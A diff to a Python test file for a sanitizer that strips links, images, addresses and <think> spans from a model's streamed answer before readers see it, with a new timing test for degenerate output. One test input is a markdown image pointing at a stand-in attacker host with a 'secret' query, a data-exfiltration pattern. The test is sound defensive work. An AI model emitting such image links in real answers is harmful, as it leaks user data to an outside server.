@@ -1,5 +1,6 @@
 """What a reader sees of a model's answer before it is checked: its words at once, no evidence, no address."""
 
+import time
 from collections.abc import Sequence
 
 import pytest
@@ -31,7 +32,13 @@ def drafted(text: str, size: int) -> list[str]:
         (NOTHING, ""),
         (f"  {NOTHING}.", ""),
         ("Not in the sources alone.", "Not in the sources alone."),
-        ("Look ![x](https://evil.example/?q=secret) here", "Look !(https here"),
+        ("Look ![x](https://evil.example/?q=secret) here", "Look !(https: here"),
+        ("See www.evil.example/x or mailto:a@b.example now", "See  or  now"),
+        (f"**{NOTHING}**", ""),
+        (f"> - {NOTHING}.", ""),
+        ("It <think>secret</think>ends in May.", "It ends in May."),
+        ("If a < b and c <thing> d", "If a < b and c <thing> d"),
+        ("Wide  and / or", "Wide  and / or"),
         ("At 10:30 and 1:2.", "At 10:30 and 1:2."),
         ("An open [ bracket", "An open"),
     ],
@@ -48,6 +55,14 @@ def test_the_first_delta_is_shown_at_once() -> None:
 def test_a_draft_without_end_is_cut_and_brackets_are_not_waited_for_for_ever() -> None:
     assert LONGEST <= sum(map(len, drafted("word " * LONGEST, 50))) < LONGEST + 100
     assert "after" in "".join(drafted("[" + "x" * 2_000 + " after", 10))
+
+
+@pytest.mark.parametrize("piece", [" ", "://a", "a", "<", "<think>", "www.", "["])
+def test_a_reply_that_degenerates_costs_no_more_than_its_length(piece: str) -> None:
+    """A small model repeats itself for ever; nobody else's turn waits for that."""
+    began = time.process_time()
+    drafted("x" + piece * 20_000 + " y", len(piece))
+    assert time.process_time() - began < 2.0
 
 
 def draft(text: str, seq: int = 3) -> Event:
